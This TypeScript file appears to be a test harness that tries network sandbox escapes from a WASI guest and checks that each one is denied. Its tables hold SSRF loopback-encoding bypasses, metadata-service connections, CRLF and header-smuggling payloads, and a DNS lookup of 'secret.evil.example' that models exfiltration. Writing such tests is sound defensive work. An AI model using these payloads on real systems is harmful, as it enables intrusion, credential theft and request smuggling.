import { type Attack, type Attempt, Spoils } from "./attempt.ts";
import {
  block,
  bodyOf,
  connect,
  type HttpRequest,
  ipv4,
  ipv6,
  request,
  startRequest,
  statusOf,
} from "./actions.ts";

/** How WASI says no to a connection. */
const DENIED =
  /^(error (\{"tag":"(HTTP-request-denied|destination-IP-prohibited|HTTP-request-URI-invalid)"|"(access-denied|not-supported|name-unresolvable|permanent-resolver-failure|invalid-argument)"|undefined)|denied)/;
/** What WASI itself does not let pass, whatever the policy says. */
const MALFORMED =
  /^(error (undefined|\{"tag":"(HTTP-|internal-error|invalid-syntax|forbidden)|"(invalid-syntax|forbidden))|nothing$)/;
const NO_SYNTAX = {
  notExpressible: "Deno's permissions know hosts and ports, not the syntax of HTTP",
};
const NO_LIMIT = { notExpressible: "Deno's permissions bound no amounts and no time" };
const LOOPBACK = [127, 0, 0, 1] as const;
const MAPPED_LOOPBACK = [0, 0, 0, 0, 0, 0xffff, 0x7f00, 1] as const;

/** Authorities that would lead to the server that must not be asked. */
const AUTHORITIES: Readonly<Record<string, (attack: Attack) => string>> = {
  "asks another port": ({ site }) => `127.0.0.1:${site.deniedPort}`,
  "asks a name with a private address": ({ site }) => `localhost:${site.deniedPort}`,
  "asks a decimal address": ({ site }) => `2130706433:${site.deniedPort}`,
  "asks an octal address": ({ site }) => `0177.0.0.1:${site.deniedPort}`,
  "asks a hexadecimal address": ({ site }) => `0x7f000001:${site.deniedPort}`,
  "asks a shortened address": ({ site }) => `127.1:${site.deniedPort}`,
  "asks an IPv4 address within IPv6": ({ site }) => `[::ffff:127.0.0.1]:${site.deniedPort}`,
  "asks the same in hexadecimal": ({ site }) => `[::ffff:7f00:1]:${site.deniedPort}`,
  "asks the unspecified address": ({ site }) => `0.0.0.0:${site.deniedPort}`,
  "asks another loopback address": ({ site }) => `127.0.0.2:${site.deniedPort}`,
  "asks with a dot behind the address": ({ site }) => `127.0.0.1.:${site.deniedPort}`,
  "asks with digits of another script": ({ site }) =>
    `\uff11\uff12\uff17.\uff10.\uff10.\uff11:${site.deniedPort}`,
  "asks with the allowed host as user": ({ site }) =>
    `127.0.0.1:${site.allowedPort}@127.0.0.1:${site.deniedPort}`,
  "asks with a user and a password": ({ site }) => `user:pass@127.0.0.1:${site.deniedPort}`,
  "asks with the allowed host behind a fragment": ({ site }) =>
    `127.0.0.1:${site.deniedPort}#@127.0.0.1:${site.allowedPort}`,
  "asks with the allowed host behind a backslash": ({ site }) =>
    `127.0.0.1:${site.deniedPort}\\@127.0.0.1:${site.allowedPort}`,
  "asks with a line break in the authority": ({ site }) =>
    `127.0.0.1:${site.deniedPort}\r\nHost: 127.0.0.1:${site.allowedPort}`,
};

/** Requests to the allowed server that are not as they should be. */
const REQUESTS: Readonly<Record<string, Partial<HttpRequest>>> = {
  "puts a line break into the path": { path: "/ HTTP/1.1\r\nx-injected: yes\r\n\r\nGET /" },
  "puts a space into the path": { path: "/headers HTTP/1.0" },
  "puts an absolute URL into the path": { path: "http://169.254.169.254/" },
  "puts a line break into the method": {
    path: "/headers",
    method: { tag: "other", val: "GET / HTTP/1.1\r\nx-injected: yes\r\n\r\nGET" },
  },
  "opens a tunnel": { method: { tag: "connect" } },
  "uses the scheme file": { scheme: { tag: "other", val: "file" } },
  "uses the scheme data": { scheme: { tag: "other", val: "data" } },
  "uses the scheme javascript": { scheme: { tag: "other", val: "javascript" } },
};

/** Headers that a guest must not set or that would split the request. */
const HEADERS: Readonly<Record<string, readonly [name: string, value: string]>> = {
  "sets Host to another server": ["host", "169.254.169.254"],
  "sets Transfer-Encoding": ["transfer-encoding", "chunked"],
  "sets Content-Length to another length": ["content-length", "5"],
  "sets Connection": ["connection", "keep-alive, x"],
  "puts a line break into a value": ["x-a", "1\r\nx-injected: yes"],
  "puts a bare line feed into a value": ["x-a", "1\nx-injected: yes"],
  "puts a NUL into a value": ["x-a", "1\0"],
  "puts a line break into a name": ["x-a: 1\r\nx-injected", "yes"],
  "puts a space into a name": ["x injected", "yes"],
  "gives an empty name": ["", "yes"],
};

/** Sockets to where no grant leads. */
const SOCKETS: Readonly<Record<string, (attack: Attack) => Promise<unknown>>> = {
  "connects to another port": ({ guest, site }) =>
    connect(guest, "ipv4", ipv4(LOOPBACK, site.deniedPort)),
  "connects to an IPv4 address within IPv6": ({ guest, site }) =>
    connect(guest, "ipv6", ipv6(MAPPED_LOOPBACK, site.deniedPort)),
  "connects to the unspecified address": ({ guest, site }) =>
    connect(guest, "ipv4", ipv4([0, 0, 0, 0], site.deniedPort)),
  "connects to the metadata service": ({ guest }) =>
    connect(guest, "ipv4", ipv4([169, 254, 169, 254], 80)),
  "connects to port 0": ({ guest }) => connect(guest, "ipv4", ipv4(LOOPBACK, 0)),
  "listens without a grant": async ({ guest }) => {
    const type = "wasi:sockets/tcp#[method]tcp-socket";
    const socket = await guest.ok("wasi:sockets/tcp-create-socket#create-tcp-socket", "ipv4");
    const network = await guest.call("wasi:sockets/instance-network#instance-network");
    await guest.ok(`${type}.start-bind`, socket, network, ipv4([0, 0, 0, 0], 0));
    await guest.ok(`${type}.finish-bind`, socket);
    await guest.ok(`${type}.start-listen`, socket);
    await guest.ok(`${type}.finish-listen`, socket);
    return "listens";
  },
  "sends a datagram without a grant": async ({ guest, site }) => {
    const type = "wasi:sockets/udp#[method]udp-socket";
    const socket = await guest.ok("wasi:sockets/udp-create-socket#create-udp-socket", "ipv4");
    const network = await guest.call("wasi:sockets/instance-network#instance-network");
    await guest.ok(`${type}.start-bind`, socket, network, ipv4([0, 0, 0, 0], 0));
    await guest.ok(`${type}.finish-bind`, socket);
    const peer = ipv4(LOOPBACK, site.deniedPort);
    const [, out] = await guest.ok(`${type}.stream`, socket, peer) as [number, number];
    const data = Uint8Array.of(1);
    const send = "wasi:sockets/udp#[method]outgoing-datagram-stream.send";
    await guest.ok(
      "wasi:sockets/udp#[method]outgoing-datagram-stream.check-send",
      out,
    );
    return await guest.ok(send, out, [{ data, "remote-address": undefined }]);
  },
  "looks up a name without a grant": ({ guest }) => resolve(guest, "localhost"),
  "looks up a name that carries data out": ({ guest }) => resolve(guest, "secret.evil.example"),
  "looks up a name of a megabyte": ({ guest }) => resolve(guest, "a".repeat(1_000_000)),
  "looks up a name with a NUL": ({ guest }) => resolve(guest, "localhost\0.example.com"),
};

async function resolve(guest: Attack["guest"], name: string): Promise<unknown> {
  const network = await guest.call("wasi:sockets/instance-network#instance-network");
  const type = "wasi:sockets/ip-name-lookup";
  const stream = await guest.ok(`${type}#resolve-addresses`, network, name);
  await block(guest, await guest.call(`${type}#[method]resolve-address-stream.subscribe`, stream));
  return await guest.ok(`${type}#[method]resolve-address-stream.resolve-next-address`, stream);
}

async function answerOf(attack: Attack, what: HttpRequest): Promise<Spoils | undefined> {
  const { guest, site } = attack;
  const response = await request(guest, what);
  const stream = await bodyOf(guest, response);
  const read = "wasi:io/streams#[method]input-stream.blocking-read";
  const bytes = await guest.ok(read, stream, 65_536n) as Uint8Array;
  const text = new TextDecoder().decode(bytes);
  if (text.includes(site.secret)) return new Spoils(text);
  return text.includes("x-injected") ? new Spoils(text) : undefined;
}

function bytes(text: string): Uint8Array {
  return new TextEncoder().encode(text);
}

/** Everything that is tried with the network. */
export const networkAttempts: readonly Attempt[] = [
  ...Object.entries(AUTHORITIES).map(([name, authority]): Attempt => ({
    name,
    kind: "http to a denied host",
    run: async (attack) => await answerOf(attack, { authority: authority(attack) }),
    wallOne: DENIED,
    wallTwo: DENIED,
  })),
  ...Object.entries(REQUESTS).map(([name, what]): Attempt => ({
    name,
    kind: "http request that is malformed",
    run: async (attack) =>
      await answerOf(attack, { authority: `127.0.0.1:${attack.site.allowedPort}`, ...what }),
    wallOne: /^(error |nothing|denied)/,
    wallTwo: NO_SYNTAX,
  })),
  ...Object.entries(HEADERS).map(([name, [key, value]]): Attempt => ({
    name,
    kind: "http header",
    run: async (attack) =>
      await answerOf(attack, {
        authority: `127.0.0.1:${attack.site.allowedPort}`,
        path: "/headers",
        headers: [[key, bytes(value)]],
      }),
    wallOne: MALFORMED,
    wallTwo: NO_SYNTAX,
  })),
  ...Object.entries(SOCKETS).map(([name, open]): Attempt => ({
    name,
    kind: "socket",
    run: async (attack) => new Spoils(String(await open(attack))),
    wallOne: DENIED,
    wallTwo:
      /^(error "(access-denied|not-supported|invalid-argument|name-unresolvable|permanent-resolver-failure|connection-refused|remote-unreachable|unknown|address-not-bindable)"|denied)/,
  })),
  {
    name: "follows a redirect to a denied host",
    kind: "http redirect",
    async run(attack) {
      const { guest, site } = attack;
      const authority = `127.0.0.1:${site.allowedPort}`;
      const status = await statusOf(guest, await request(guest, { authority, path: "/redirect" }));
      return status === 302 ? undefined : new Spoils(`status ${status}`);
    },
    wallOne: /^nothing$/,
    wallTwo: {
      notExpressible: "The redirect is the guest's own to follow; the host hands it over as it is",
    },
  },
  {
    name: "sends headers without bound",
    kind: "http amount",
    async run({ guest, site }) {
      const value = new Uint8Array(60_000).fill(0x61);
      const headers = Array.from({ length: 30 }, (_, index) => [`x-${index}`, value] as const);
      await startRequest(guest, { authority: `127.0.0.1:${site.allowedPort}`, headers });
      return undefined;
    },
    wallOne: /^(error|trap|nothing)/,
    wallTwo: NO_LIMIT,
  },
  {
    name: "takes headers without bound",
    kind: "http amount",
    async run({ guest, site }) {
      await request(guest, { authority: `127.0.0.1:${site.allowedPort}`, path: "/many-headers" });
      return undefined;
    },
    wallOne: /^(error \{"tag":"HTTP-response-header|nothing)/,
    wallTwo: NO_LIMIT,
  },
  {
    name: "waits for a server that never answers",
    kind: "http time",
    async run({ guest, site }) {
      await request(guest, { authority: `127.0.0.1:${site.allowedPort}`, path: "/silent" });
      return undefined;
    },
    wallOne: /^timeout/,
    wallTwo: NO_LIMIT,
    timeout: 500,
  },
  {
    name: "reads a body that never ends",
    kind: "http amount",
    async run({ guest, site }) {
      const authority = `127.0.0.1:${site.allowedPort}`;
      const stream = await bodyOf(guest, await request(guest, { authority, path: "/endless" }));
      const skip = "wasi:io/streams#[method]input-stream.blocking-skip";
      for (let left = 200; left > 0; left--) await guest.ok(skip, stream, 1_048_576n);
      return undefined;
    },
    wallOne: /^nothing$/,
    wallTwo: NO_LIMIT,
  },
  {
    name: "leaves a body that never ends unread",
    kind: "http amount",
    async run({ guest, site }) {
      const authority = `127.0.0.1:${site.allowedPort}`;
      await bodyOf(guest, await request(guest, { authority, path: "/endless" }));
      await block(
        guest,
        await guest.call("wasi:clocks/monotonic-clock#subscribe-duration", 200_000_000n),
      );
      return undefined;
    },
    wallOne: /^nothing$/,
    wallTwo: NO_LIMIT,
  },
];
